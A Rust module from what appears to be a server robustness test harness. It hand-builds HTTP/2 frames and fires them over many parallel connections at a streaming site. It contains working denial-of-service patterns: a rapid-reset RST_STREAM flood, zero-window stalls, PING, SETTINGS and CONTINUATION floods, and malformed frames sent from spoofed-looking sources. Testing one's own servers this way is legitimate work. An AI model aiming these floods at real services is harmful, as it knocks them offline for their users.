//! HTTP/2 frames by hand (RFC 9113), in orders that no browser sends.

use std::time::Duration;

use super::sockets::{connect_from, connect_tiny, send, source};
use super::stage::Stage;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `:method GET`, `:scheme http`, `:path` and `:authority x`, as HPACK (RFC 7541) without its tables' help.
fn get(path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).expect("short");
    [&[0x82, 0x86, 0x04, length][..], path.as_bytes(), &[0x41, 1, b'x']].concat()
}

fn opening(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

/// Initial window of 0: the answers can never be sent.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// Many connections of each kind, at once; what they make the centre keep ends with them.
pub fn broken_rules(stage: &Stage) {
    let attacks = attacks(&stage.cameras[0]);
    let mut open = Vec::new();
    for (number, bytes) in attacks.iter().cycle().take(5 * attacks.len()).enumerate() {
        let mut stream =
            if number % 2 == 0 { connect_tiny(stage.site) } else { connect_from(source(number), stage.site) };
        send(&mut stream, bytes, Duration::from_millis(300));
        open.push(stream);
    }
    std::thread::sleep(Duration::from_secs(2));
}

fn attacks(camera: &str) -> Vec<Vec<u8>> {
    let request = |stream: u32, path: &str| frame(HEADERS, END_STREAM | END_HEADERS, stream, &get(path));
    let streams = || (0..5000_u32).map(|number| 2 * number + 1);
    let live = format!("/live/{camera}/index.m3u8");
    let behind = |settings: &[u8], frames: Vec<u8>| [opening(settings), frames].concat();
    let reset = |stream| [request(stream, "/"), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat();
    vec![
        behind(&[], streams().flat_map(reset).collect()),
        behind(
            &NO_WINDOW,
            streams().take(200).flat_map(|stream| request(stream, "/list/stations.json")).collect(),
        ),
        behind(&[], streams().take(500).flat_map(|stream| request(stream, &live)).collect()),
        behind(&[], frame(PING, 0, 0, &[7; 8]).repeat(20_000)),
        behind(&[], frame(SETTINGS, 0, 0, &[]).repeat(20_000)),
        behind(
            &[],
            [frame(HEADERS, 0, 1, &get("/")), frame(CONTINUATION, 0, 1, &[0; 16_000]).repeat(200)].concat(),
        ),
        behind(&[], frame(DATA, 0, 1, &[0; 16_000]).repeat(50)),
        behind(&[], frame(WINDOW_UPDATE, 0, 0, &[0x7F, 0xFF, 0xFF, 0xFF]).repeat(10)),
        behind(&[], frame(HEADERS, END_HEADERS, 1, &[0xFF; 200])),
        behind(&[], [0xFF; 9].repeat(100)),
        PREFACE.to_vec(),
    ]
}
